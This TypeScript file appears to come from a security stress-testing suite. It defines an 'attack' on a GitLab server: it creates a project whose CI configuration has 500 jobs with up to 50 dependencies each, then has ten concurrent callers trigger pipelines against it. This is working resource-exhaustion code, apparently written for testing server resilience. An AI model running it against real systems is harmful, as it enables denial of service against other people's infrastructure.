import { Schema } from "effect"
import type { Attack, Target } from "../Attack.ts"
import { call, callers } from "../callers.ts"

const [jobs, needsOfJob] = [500, 50]

/** A configuration in which each job needs as many as it may, of those before it. */
const configuration = (): string => {
  const name = (job: number) => `job-${job}`
  const job = (index: number) => {
    const needed = Array.from({ length: Math.min(index, needsOfJob) }, (_, step) => name(index - 1 - step))
    return `${name(index)}:\n  script: make\n  needs: [${needed.join(", ")}]\n`
  }
  return Array.from({ length: jobs }, (_, index) => job(index)).join("")
}

const Made = Schema.Struct({ id: Schema.Int })

/** Makes a project of the attacker's whose commits have such pipelines. */
const makeProject = async ({ attacker, url }: Target) => {
  const headers = { "private-token": attacker.token, "content-type": "application/json" }
  const post = async (path: string, body: object): Promise<unknown> => {
    const response = await fetch(`${url}${path}`, { method: "POST", headers, body: JSON.stringify(body) })
    if (!response.ok) throw new Error(`POST ${path}: ${response.status} ${await response.text()}`)
    return response.json()
  }
  const project = { name: `needs-${Date.now()}`, initialize_with_readme: true, default_branch: "main" }
  const { id } = Schema.decodeUnknownSync(Made)(await post("/projects", project))
  const actions = [{ action: "create", file_path: ".gitlab-ci.yml", content: configuration() }]
  await post(`/projects/${id}/repository/commits`, { branch: "main", commit_message: "Build it [skip ci]", actions })
  return { headers, pipelines: `${url}/projects/${id}/pipeline?ref=main` }
}

const pipelinesOfNeeds: Attack = {
  title: `10 callers who make pipelines of ${jobs} jobs with ${needsOfJob} needs each`,
  prepare: async (target) => {
    const { headers, pipelines } = await makeProject(target)
    return () => callers(10, (caller) => call(caller, { method: "POST", url: pipelines, headers, body: Buffer.from("{}") }))
  }
}

export const pipelines = { pipelinesOfNeeds }
